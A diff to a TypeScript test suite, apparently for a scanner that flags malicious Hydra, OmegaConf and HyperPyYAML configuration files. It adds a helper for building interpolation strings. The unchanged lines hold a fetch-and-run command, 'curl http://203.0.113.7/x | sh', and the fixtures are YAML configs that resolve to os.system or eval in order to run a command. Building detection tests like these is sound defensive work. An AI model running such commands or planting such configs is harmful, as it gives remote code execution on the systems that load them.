@@ -4,6 +4,8 @@ import { failing } from "./attack.js";
 
 const base64 = (content: string | Uint8Array) => Buffer.from(content).toString("base64");
 const COMMAND = "curl http://203.0.113.7/x | sh";
+/** An interpolation of OmegaConf. */
+const of = (reference: string) => ["$", "{", reference, "}"].join("");
 const MALICE = base64(p.osSystem());
 
 function notebook(source: string | readonly string[], more: object = {}): string {
@@ -249,19 +251,19 @@ describe("an attack by a configuration", () => {
     {
       hope: "Hydra's target comes from the environment, with a value for those who have none",
       name: "config.yaml",
-      bytes: () => "model:\n  _target_: ${oc.env:MODEL_CLASS,os.system}\n  command: id\n",
+      bytes: () => `model:\n  _target_: ${of("oc.env:MODEL_CLASS,os.system")}\n  command: id\n`,
       least: "high",
     },
     {
       hope: "Hydra's target is resolved by an interpolation",
       name: "config.yaml",
-      bytes: () => "cmd: os.system\nmodel:\n  _target_: ${cmd}\n  command: id\n",
+      bytes: () => `cmd: os.system\nmodel:\n  _target_: ${of("cmd")}\n  command: id\n`,
       least: "high",
     },
     {
       hope: "Hydra's target is put together by interpolations",
       name: "config.yaml",
-      bytes: () => "a: os\nb: system\nmodel:\n  _target_: ${a}.${b}\n  command: id\n",
+      bytes: () => `a: os\nb: system\nmodel:\n  _target_: ${of("a")}.${of("b")}\n  command: id\n`,
       least: "high",
     },
     {
@@ -291,7 +293,7 @@ describe("an attack by a configuration", () => {
     {
       hope: "OmegaConf's resolver evaluates",
       name: "config.yaml",
-      bytes: () => "x: ${eval:\"__import__('os').system('id')\"}\n",
+      bytes: () => `x: ${of("eval:\"__import__('os').system('id')\"")}\n`,
     },
     {
       hope: "HyperPyYAML applies a function",
